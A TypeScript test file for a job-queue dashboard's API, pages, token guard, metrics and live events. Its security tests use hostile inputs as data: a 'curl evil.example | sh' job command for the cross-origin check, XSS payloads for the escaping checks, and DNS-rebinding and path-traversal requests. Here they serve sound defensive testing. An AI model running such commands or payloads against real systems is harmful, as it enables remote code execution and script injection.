/** The dashboard app called with `new Request(...)`: API shapes, pages, the guard, live events. */
import assert from "node:assert/strict";
import { JOB_STATES } from "../../lib/job.ts";
import type { Stats } from "../../lib/stats.ts";
import { openStorage } from "../../lib/storage/open_storage.ts";
import { storeChangeFeed } from "../../web/handler.ts";
import { cliJson, storeTest } from "../_helpers.ts";
import { addJobs, appFixture, BASE, runJob, sseReader, TOKEN } from "./_fixtures.ts";
import { JOB_FIELDS, RUN_FIELDS } from "../_helpers.ts";

const json = (body: unknown): RequestInit => ({
  method: "POST",
  body: JSON.stringify(body),
  headers: { "Content-Type": "application/json" },
});

// ----- the JSON API

storeTest("GET /api/stats is the status --json document", async (tmp) => {
  await using f = await appFixture({}, tmp);
  await addJobs(f.store, { id: "a" }, { id: "b" });
  const res = await f.request("/api/stats");
  assert.equal(res.status, 200);
  assert.match(res.headers.get("content-type") ?? "", /application\/json/);
  const stats = await res.json() as Stats;
  assert.deepEqual(Object.keys(stats).sort(), [
    "counts",
    "db",
    "engine",
    "next_retry_at",
    "rate_limits",
    "throughput",
    "workers",
  ]);
  assert.deepEqual(Object.keys(stats.counts).sort(), [...JOB_STATES].sort());
  assert.equal(stats.counts.pending, 2);
  assert.equal(stats.db, f.display);
  assert.match(stats.engine, tmp.kind === "sqlite" ? /^SQLite \d/ : /^PostgreSQL \d/);
});

storeTest("the API returns the same documents as the CLI's --json", async (tmp) => {
  await using f = await appFixture({}, tmp);
  await addJobs(f.store, { id: "ok1" }, { id: "other", queue: "q2" });
  await runJob(f.store, "ok1", { ok: true, stdout: "hello\n", stderr: "warn\n" });
  const api = async (path: string) => await (await f.request(path)).json();
  const [show, logs, list, status] = await Promise.all([
    cliJson(["show", "ok1"], { db: f.db }),
    cliJson(["logs", "ok1"], { db: f.db }),
    cliJson(["list"], { db: f.db }),
    cliJson<Stats>(["status"], { db: f.db }),
  ]);
  assert.deepEqual(await api("/api/jobs/ok1"), show);
  assert.deepEqual(await api("/api/jobs/ok1/logs"), logs);
  assert.deepEqual((await api("/api/jobs")).jobs, list);
  const stats = await api("/api/stats") as Stats;
  assert.deepEqual(stats.counts, status.counts);
  assert.deepEqual(Object.keys(stats).sort(), Object.keys(status).sort());
});

storeTest("GET /api/jobs filters by state, queue and search, and pages by cursor", async (tmp) => {
  await using f = await appFixture({}, tmp);
  await addJobs(
    f.store,
    { id: "j1", command: "backup home" },
    { id: "j2", queue: "mail" },
    { id: "j3", command: "backup db" },
    { id: "j4" },
    { id: "j5", queue: "mail" },
  );
  const get = async (query: string) => {
    const res = await f.request(`/api/jobs${query}`);
    assert.equal(res.status, 200);
    return await res.json() as { jobs: { id: string }[]; next_cursor: string | null };
  };
  const all = await get("");
  assert.deepEqual(Object.keys(all).sort(), ["jobs", "next_cursor"]);
  assert.deepEqual(all.jobs.map((j) => j.id), ["j5", "j4", "j3", "j2", "j1"]);
  assert.deepEqual(Object.keys(all.jobs[0]!).sort(), JOB_FIELDS);
  assert.equal(all.next_cursor, null);

  assert.deepEqual((await get("?queue=mail")).jobs.map((j) => j.id), ["j5", "j2"]);
  assert.deepEqual((await get("?q=backup")).jobs.map((j) => j.id), ["j3", "j1"]);
  assert.deepEqual((await get("?q=j4")).jobs.map((j) => j.id), ["j4"]);
  assert.deepEqual((await get("?state=dead")).jobs, []);

  const seen: string[] = [];
  let cursor: string | null = null;
  for (let page = 0; page < 5; page++) {
    const result = await get(`?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`);
    seen.push(...result.jobs.map((j) => j.id));
    cursor = result.next_cursor;
    if (!cursor) break;
  }
  assert.deepEqual(seen, ["j5", "j4", "j3", "j2", "j1"]);
});

storeTest("GET /api/jobs refuses an unknown state or a bad limit with 400", async (tmp) => {
  await using f = await appFixture({}, tmp);
  const bad = await f.request("/api/jobs?state=sleeping");
  assert.equal(bad.status, 400);
  assert.match((await bad.json()).error, /Unknown state "sleeping"; use one of: pending/);
  assert.equal((await f.request("/api/jobs?limit=0")).status, 400);
  assert.equal((await f.request("/api/jobs?limit=5000")).status, 400);
});

storeTest("GET /api/jobs/:id is the show --json document; an unknown id is 404", async (tmp) => {
  await using f = await appFixture({}, tmp);
  await addJobs(f.store, { id: "x1", max_retries: 0 });
  await runJob(f.store, "x1", { ok: false, stderr: "boom" });
  const res = await f.request("/api/jobs/x1");
  assert.equal(res.status, 200);
  const job = await res.json();
  assert.deepEqual(
    Object.keys(job).sort(),
    [...JOB_FIELDS, "runs", "dependencies", "dependents"].sort(),
  );
  assert.equal(job.state, "dead");
  assert.equal(job.runs.length, 1);
  assert.deepEqual(Object.keys(job.runs[0]).sort(), RUN_FIELDS);

  const missing = await f.request("/api/jobs/nope");
  assert.equal(missing.status, 404);
  assert.match((await missing.json()).error, /^Job "nope" not found/);
});

storeTest("GET /api/jobs/:id/logs gives an attempt's output", async (tmp) => {
  await using f = await appFixture({}, tmp);
  await addJobs(f.store, { id: "l1" });
  const before = await f.request("/api/jobs/l1/logs");
  assert.equal(before.status, 404);
  assert.match((await before.json()).error, /has not run yet/);
  await runJob(f.store, "l1", { ok: true, stdout: "out\n", stderr: "err\n" });
  const res = await f.request("/api/jobs/l1/logs?attempt=1");
  assert.deepEqual(await res.json(), { id: "l1", attempt: 1, stdout: "out\n", stderr: "err\n" });
  assert.equal((await f.request("/api/jobs/l1/logs?attempt=2")).status, 404);
  assert.equal((await f.request("/api/jobs/l1/logs?attempt=zero")).status, 400);
});

storeTest("POST /api/jobs adds a job (201) and wakes the workers", async (tmp) => {
  await using f = await appFixture({}, tmp);
  const res = await f.request(
    "/api/jobs",
    json({ id: "new1", command: "echo hi", priority: 5, queue: "q", max_retries: 1 }),
  );
  assert.equal(res.status, 201);
  const job = await res.json();
  assert.deepEqual(Object.keys(job).sort(), JOB_FIELDS);
  assert.equal(job.id, "new1");
  assert.equal(job.state, "pending");
  assert.equal(job.priority, 5);
  assert.equal(f.wakes, 1);
  assert.equal((await f.store.jobGet({ id: "new1" }))?.command, "echo hi");
});

storeTest("POST /api/jobs takes an array, all or none", async (tmp) => {
  await using f = await appFixture({}, tmp);
  const res = await f.request("/api/jobs", json([{ command: "a" }, { command: "b" }]));
  assert.equal(res.status, 201);
  assert.equal((await res.json()).length, 2);
  const bad = await f.request("/api/jobs", json([{ command: "c" }, { command: "" }]));
  assert.equal(bad.status, 400);
  assert.match((await bad.json()).error, /^item 2: Invalid job/);
  assert.equal((await f.store.jobCountByState()).pending, 2);
});

storeTest("POST /api/jobs refuses bad input with 400 and a duplicate id with 409", async (tmp) => {
  await using f = await appFixture({}, tmp);
  const cases: [unknown, RegExp][] = [
    ["not json", /not valid JSON/],
    [{ command: "x", colour: "red" }, /unknown field "colour"/],
    [{ command: "" }, /field "command"/],
    [{ command: "x", priority: 1.5 }, /field "priority" must be an integer/],
    [{ command: "x", delay: "soon" }, /field "delay" is not a duration/],
  ];
  for (const [body, message] of cases) {
    const res = await f.request("/api/jobs", {
      method: "POST",
      body: typeof body === "string" ? body : JSON.stringify(body),
      headers: { "Content-Type": "application/json" },
    });
    assert.equal(res.status, 400, String(message));
    const error = (await res.json()).error;
    assert.match(error, message);
  }
  assert.equal((await f.request("/api/jobs", json({ id: "d", command: "x" }))).status, 201);
  const dup = await f.request("/api/jobs", json({ id: "d", command: "x" }));
  assert.equal(dup.status, 409);
  assert.match((await dup.json()).error, /"d"/);
});

storeTest(
  "POST /api/jobs/:id/retry and /cancel change the job; a wrong state is 409",
  async (tmp) => {
    await using f = await appFixture({}, tmp);
    await addJobs(f.store, { id: "dead1", max_retries: 0 }, { id: "p1" });
    await runJob(f.store, "dead1", { ok: false });
    const retried = await f.request("/api/jobs/dead1/retry", { method: "POST" });
    assert.equal(retried.status, 200);
    const job = await retried.json();
    assert.deepEqual(Object.keys(job).sort(), JOB_FIELDS);
    assert.equal(job.state, "pending");
    assert.equal(f.wakes, 1);

    const again = await f.request("/api/jobs/dead1/retry", { method: "POST" });
    assert.equal(again.status, 409);
    assert.match((await again.json()).error, /pending/);

    const cancelled = await f.request("/api/jobs/p1/cancel", { method: "POST" });
    assert.equal(cancelled.status, 200);
    assert.equal((await cancelled.json()).state, "cancelled");
    assert.equal((await f.request("/api/jobs/p1/cancel", { method: "POST" })).status, 409);
    assert.equal((await f.request("/api/jobs/nope/cancel", { method: "POST" })).status, 404);
  },
);

storeTest("POST /api/dlq/retry moves every dead job back to pending", async (tmp) => {
  await using f = await appFixture({}, tmp);
  await addJobs(f.store, { id: "d1", max_retries: 0 }, { id: "d2", max_retries: 0 });
  await runJob(f.store, "d1", { ok: false });
  await runJob(f.store, "d2", { ok: false });
  const res = await f.request("/api/dlq/retry", { method: "POST" });
  assert.equal(res.status, 200);
  assert.deepEqual(await res.json(), { retried: 2 });
  const counts = await f.store.jobCountByState();
  assert.equal(counts.dead, 0);
  assert.equal(counts.pending, 2);
});

storeTest(
  "GET /metrics is Prometheus text with jobs, attempts, durations and workers",
  async (tmp) => {
    await using f = await appFixture({}, tmp);
    await addJobs(f.store, { id: "m1" }, { id: "m2", max_retries: 0 }, { id: "m3" });
    await runJob(f.store, "m1", { ok: true });
    await runJob(f.store, "m2", { ok: false });
    const res = await f.request("/metrics");
    assert.equal(res.status, 200);
    assert.match(res.headers.get("content-type") ?? "", /^text\/plain; version=0\.0\.4/);
    const text = await res.text();
    assert.match(text, /^# TYPE queuectl_jobs gauge$/m);
    assert.match(text, /^queuectl_jobs\{state="pending"\} 1$/m);
    assert.match(text, /^queuectl_jobs\{state="completed"\} 1$/m);
    assert.match(text, /^queuectl_jobs\{state="dead"\} 1$/m);
    assert.match(text, /^queuectl_attempts_total\{outcome="succeeded"\} 1$/m);
    assert.match(text, /^queuectl_attempts_total\{outcome="failed"\} 1$/m);
    assert.match(text, /^queuectl_attempt_failures_total 1$/m);
    assert.match(text, /^queuectl_attempt_duration_seconds_sum\{outcome="succeeded"\} 0\.005$/m);
    assert.match(text, /^queuectl_workers 0$/m);
    // Every sample line is `name{labels} number`.
    for (const line of text.trim().split("\n").filter((l) => !l.startsWith("#"))) {
      assert.match(line, /^[a-z_]+(\{[a-z_]+="[a-z_]+"\})? -?[0-9.e+]+$/, line);
    }
  },
);

// ----- the guard

Deno.test("every route needs the token: 401 JSON for the API, an HTML page for pages", async () => {
  await using f = await appFixture();
  for (const path of ["/api/stats", "/api/jobs", "/api/queues", "/api/events", "/metrics"]) {
    const res = await f.request(path, { auth: false });
    assert.equal(res.status, 401, path);
    assert.match((await res.json()).error, /token/, path);
    assert.match(res.headers.get("www-authenticate") ?? "", /^Bearer/);
  }
  for (const path of ["/", "/jobs", "/queues", "/dlq", "/jobs/x", "/assets/app.css"]) {
    const res = await f.request(path, { auth: false });
    assert.equal(res.status, 401, path);
    assert.match(res.headers.get("content-type") ?? "", /text\/html/);
    assert.match(await res.text(), /printed when it started/);
  }
  const wrong = await f.request("/api/stats", { headers: { Authorization: "Bearer nope" } });
  assert.equal(wrong.status, 401);
  await wrong.body?.cancel();
  const post = await f.request("/api/jobs", { ...json({ command: "id" }), auth: false });
  assert.equal(post.status, 401);
  await post.body?.cancel();
  assert.equal((await f.store.jobCountByState()).pending, 0);
});

Deno.test("?token= sets an HttpOnly SameSite=Strict cookie and redirects without it", async () => {
  await using f = await appFixture();
  const res = await f.request(`/jobs?state=dead&token=${TOKEN}`, { auth: false });
  assert.equal(res.status, 303);
  assert.equal(res.headers.get("location"), "/jobs?state=dead");
  const cookie = res.headers.get("set-cookie") ?? "";
  assert.match(cookie, /^queuectl_token_5000=/);
  assert.match(cookie, /HttpOnly/);
  assert.match(cookie, /SameSite=Strict/);
  assert.match(cookie, /Path=\//);

  const pair = cookie.split(";")[0]!;
  const page = await f.request("/jobs?state=dead", { auth: false, headers: { Cookie: pair } });
  assert.equal(page.status, 200);
  assert.match(await page.text(), /<h1>Jobs<\/h1>/);
  const api = await f.request("/api/stats", { auth: false, headers: { Cookie: pair } });
  assert.equal(api.status, 200);
  await api.body?.cancel();

  const wrong = await f.request("/?token=guess", { auth: false });
  assert.equal(wrong.status, 401);
  assert.equal(wrong.headers.get("set-cookie"), null);
  await wrong.body?.cancel();
  const stale = await f.request("/", {
    auth: false,
    headers: { Cookie: "queuectl_token_5000=old" },
  });
  assert.equal(stale.status, 401);
  await stale.body?.cancel();
});

Deno.test("a write with a foreign Origin is 403, even with the token", async () => {
  await using f = await appFixture();
  const foreign = await f.request("/api/jobs", {
    ...json({ command: "curl evil.example | sh" }),
    headers: { "Content-Type": "application/json", Origin: "http://evil.example" },
  });
  assert.equal(foreign.status, 403);
  assert.match((await foreign.json()).error, /Cross-origin/);
  const refused: Record<string, string>[] = [{ Origin: "null" }, {
    "Sec-Fetch-Site": "cross-site",
  }];
  for (const headers of refused) {
    const res = await f.request("/api/dlq/retry", { method: "POST", headers });
    assert.equal(res.status, 403);
    await res.body?.cancel();
  }
  assert.equal((await f.store.jobCountByState()).pending, 0);

  for (const origin of [BASE, "http://localhost:5000"]) {
    const own = await f.request("/api/jobs", {
      ...json({ command: "echo ok" }),
      headers: { "Content-Type": "application/json", Origin: origin },
    });
    assert.equal(own.status, 201, origin);
    await own.body?.cancel();
  }
});

Deno.test("a Host that is not the bound address or localhost is 403 (DNS rebinding)", async () => {
  await using f = await appFixture();
  for (const host of ["evil.example", "evil.example:5000", "127.0.0.1:5001"]) {
    const res = await f.request("/api/stats", { headers: { Host: host } });
    assert.equal(res.status, 403, host);
    assert.match((await res.json()).error, /not this dashboard's address/);
  }
  const page = await f.request("/", { headers: { Host: "evil.example" } });
  assert.equal(page.status, 403);
  assert.match(await page.text(), /not this dashboard&#39;s address|not this dashboard's address/);
  for (const host of ["127.0.0.1:5000", "localhost:5000", "LOCALHOST:5000", "[::1]:5000"]) {
    const res = await f.request("/api/stats", { headers: { Host: host } });
    assert.equal(res.status, 200, host);
    await res.body?.cancel();
  }
});

Deno.test("every response carries a strict Content-Security-Policy", async () => {
  await using f = await appFixture();
  const res = await f.request("/");
  const csp = res.headers.get("content-security-policy") ?? "";
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /script-src 'self'(;|$)/);
  assert.match(csp, /frame-ancestors 'none'/);
  assert.equal(res.headers.get("x-content-type-options"), "nosniff");
  assert.equal(res.headers.get("referrer-policy"), "no-referrer");
  await res.body?.cancel();
});

// ----- pages

Deno.test("a job whose command is <script>alert(1)</script> is escaped on every page", async () => {
  await using f = await appFixture();
  const evil = `<script>alert(1)</script>`;
  await addJobs(f.store, { id: "x.ss", command: evil, max_retries: 0 });
  await runJob(f.store, "x.ss", {
    ok: false,
    stdout: `<img src=x onerror=alert(2)>`,
    stderr: evil,
  });
  for (const path of ["/", "/jobs", "/jobs?q=script", "/jobs/x.ss", "/dlq"]) {
    const res = await f.request(path);
    assert.equal(res.status, 200, path);
    const html = await res.text();
    assert.ok(!html.includes(evil), `${path} contains the raw script`);
    assert.ok(!html.includes("<img src=x"), `${path} contains the raw img`);
    assert.ok(html.includes("&lt;script&gt;alert(1)&lt;/script&gt;"), `${path} shows it escaped`);
  }
});

storeTest(
  "the pages render counts, jobs, a job's attempts and output, and the DLQ",
  async (tmp) => {
    await using f = await appFixture({}, tmp);
    await addJobs(f.store, { id: "p1", max_retries: 0 }, { id: "p2" }, { id: "p3", queue: "mail" });
    await runJob(f.store, "p1", { ok: false, stdout: "partial output", stderr: "it broke" });
    await runJob(f.store, "p2", { ok: true });

    const overview = await (await f.request("/")).text();
    assert.match(overview, /^<!DOCTYPE html>/);
    assert.match(overview, /data-count="pending">1</);
    assert.match(overview, /<form[^>]*id="add-job"/);

    const jobs = await (await f.request("/jobs?queue=mail")).text();
    assert.match(jobs, /data-job-id="p3"/);
    assert.doesNotMatch(jobs, /data-job-id="p2"/);

    const job = await (await f.request("/jobs/p1")).text();
    assert.match(job, /Attempt 1/);
    assert.match(job, /partial output/);
    assert.match(job, /it broke/);
    assert.match(job, /action="\/api\/jobs\/p1\/retry"/);

    const dlq = await (await f.request("/dlq")).text();
    assert.match(dlq, /data-job-id="p1"/);
    assert.match(dlq, /action="\/api\/dlq\/retry"/);
    assert.doesNotMatch(dlq, /data-job-id="p3"/);

    const missing = await f.request("/jobs/nope");
    assert.equal(missing.status, 404);
    assert.match(await missing.text(), /Job &quot;nope&quot; not found|Job "nope" not found/);
    const bad = await f.request("/jobs?state=bogus");
    assert.equal(bad.status, 400);
    assert.match(bad.headers.get("content-type") ?? "", /text\/html/);
    await bad.body?.cancel();
  },
);

storeTest(
  "the overview's throughput chart counts every attempt finished in a bucket",
  async (tmp) => {
    await using f = await appFixture({}, tmp);
    await addJobs(f.store, { id: "c1" }, { id: "c2" }, { id: "c3", max_retries: 0 });
    await runJob(f.store, "c1", { ok: true });
    await runJob(f.store, "c2", { ok: true });
    await runJob(f.store, "c3", { ok: false });
    const overview = await (await f.request("/")).text();
    assert.match(overview, /aria-label="3 attempts finished in the last 10 minutes"/);
  },
);

storeTest("a job retried from the DLQ shows each run's own output", async (tmp) => {
  await using f = await appFixture({}, tmp);
  await addJobs(f.store, { id: "again", max_retries: 0 });
  await runJob(f.store, "again", { ok: false, stdout: "first run says hi" });
  await f.store.jobRetry({ ids: ["again"], now: Date.now() });
  await runJob(f.store, "again", { ok: true, stdout: "second run says hi" });
  const html = await (await f.request("/jobs/again")).text();
  assert.equal(html.split("second run says hi").length - 1, 1);
  assert.equal(html.split("first run says hi").length - 1, 1);
  const logs = await f.request("/api/jobs/again/logs?run=1");
  assert.equal((await logs.json()).stdout, "first run says hi");
});

Deno.test("with the live header a page sends only its live region", async () => {
  await using f = await appFixture();
  await addJobs(f.store, { id: "r1" });
  const res = await f.request("/", { headers: { "X-Queuectl-Live": "1" } });
  const html = await res.text();
  assert.doesNotMatch(html, /<html|<form[^>]*add-job/);
  assert.match(html, /data-job-id="r1"/);
  assert.match(res.headers.get("vary") ?? "", /X-Queuectl-Live/);
  assert.equal(JSON.parse(res.headers.get("x-queuectl-counts") ?? "{}").pending, 1);
});

storeTest("the jobs page pages through 120 jobs 50 at a time", async (tmp) => {
  await using f = await appFixture({}, tmp);
  await addJobs(f.store, ...Array.from({ length: 120 }, (_, i) => ({ id: `job-${i}` })));
  const ids: string[] = [];
  let path: string | null = "/jobs";
  for (let page = 0; path && page < 5; page++) {
    const html: string = await (await f.request(path)).text();
    ids.push(...[...html.matchAll(/data-job-id="([^"]+)"/g)].map((m) => m[1]!));
    const next: string | undefined = html.match(/href="([^"]+)" rel="next"/)?.[1];
    path = next ? next.replaceAll("&amp;", "&") : null;
  }
  assert.equal(ids.length, 120);
  assert.equal(new Set(ids).size, 120);
});

storeTest("a plain form post (no script) adds a job and redirects back", async (tmp) => {
  await using f = await appFixture({}, tmp);
  const form = new URLSearchParams({
    command: "echo 'from a form'",
    id: "",
    priority: "3",
    max_retries: "0",
    timeout: "1.5",
    delay: "",
    queue: "forms",
    return: "/",
  });
  const res = await f.request("/api/jobs", {
    method: "POST",
    body: form,
    headers: { Origin: BASE, Accept: "text/html" },
  });
  assert.equal(res.status, 303);
  assert.equal(res.headers.get("location"), "/");
  const [job] = (await f.store.jobList({ limit: 1 })).jobs;
  assert.equal(job?.command, "echo 'from a form'");
  assert.equal(job?.priority, 3);
  assert.equal(job?.max_retries, 0);
  assert.equal(job?.timeout, 1.5);
  assert.equal(job?.queue, "forms");

  // The page's script posts the same form asking for JSON.
  const scripted = await f.request("/api/jobs", {
    method: "POST",
    body: new URLSearchParams({ command: "echo x", priority: "high", return: "/" }),
    headers: { Origin: BASE, Accept: "application/json" },
  });
  assert.equal(scripted.status, 400);
  assert.match((await scripted.json()).error, /field "priority" must be an integer/);

  const offsite = await f.request("/api/jobs", {
    method: "POST",
    body: new URLSearchParams({ command: "echo y", return: "//evil.example/" }),
  });
  assert.equal(offsite.headers.get("location"), "/");
  await offsite.body?.cancel();
});

Deno.test("static assets are served with their types", async () => {
  await using f = await appFixture();
  const css = await f.request("/assets/app.css");
  assert.equal(css.status, 200);
  assert.match(css.headers.get("content-type") ?? "", /^text\/css/);
  assert.match(await css.text(), /prefers-color-scheme: light/);
  const js = await f.request("/assets/app.js");
  assert.match(js.headers.get("content-type") ?? "", /^text\/javascript/);
  const etag = js.headers.get("etag")!;
  await js.body?.cancel();
  const cached = await f.request("/assets/app.js", { headers: { "If-None-Match": etag } });
  assert.equal(cached.status, 304);
  const missing = await f.request("/assets/..%2Fhandler.ts");
  assert.equal(missing.status, 404);
  await missing.body?.cancel();
});

// ----- live events

storeTest(
  "GET /api/events sends the stats, then an event after a change by another process",
  async (tmp) => {
    await using f = await appFixture({}, tmp);
    // A poll far slower than the deadline below: only the store's change watch can be that quick.
    const changes = storeChangeFeed(f.store, { intervalMs: 60_000 });
    const app = (await import("../../web/handler.ts")).createApp({
      store: f.store,
      token: TOKEN,
      hostname: "127.0.0.1",
      port: 5000,
      changes,
    });
    const res = await app.request(
      new Request(`${BASE}/api/events`, { headers: { Authorization: `Bearer ${TOKEN}` } }),
    );
    assert.equal(res.status, 200);
    assert.match(res.headers.get("content-type") ?? "", /^text\/event-stream/);
    const events = sseReader(res);
    try {
      const first = await events.next();
      assert.equal(first.event, "stats");
      assert.equal((JSON.parse(first.data) as Stats).counts.pending, 0);

      // Written through a connection of its own, as `queuectl enqueue` in another terminal would.
      const started = Date.now();
      {
        await using other = await openStorage(f.db);
        await addJobs(other, { id: "e1" });
      }
      const second = await events.next(2000);
      assert.equal(second.event, "stats");
      assert.equal((JSON.parse(second.data) as Stats).counts.pending, 1);
      assert.ok(Date.now() - started < 1000, "seen within a second");
      assert.equal(changes.size, 1);
    } finally {
      await events.close();
    }
    // The feed stops reading once nobody listens.
    const deadline = Date.now() + 2000;
    while (changes.size > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 10));
    assert.equal(changes.size, 0);
    await changes.close();
  },
);

storeTest("closing the change feed ends every event stream", async (tmp) => {
  await using f = await appFixture({}, tmp);
  const changes = storeChangeFeed(f.store, { intervalMs: 50 });
  const app = (await import("../../web/handler.ts")).createApp({
    store: f.store,
    token: TOKEN,
    hostname: "127.0.0.1",
    port: 5000,
    changes,
  });
  const res = await app.request(
    new Request(`${BASE}/api/events`, { headers: { Authorization: `Bearer ${TOKEN}` } }),
  );
  const events = sseReader(res);
  await events.next();
  await changes.close();
  await assert.rejects(() => events.next(2000), /ended/);
  await events.close();
});
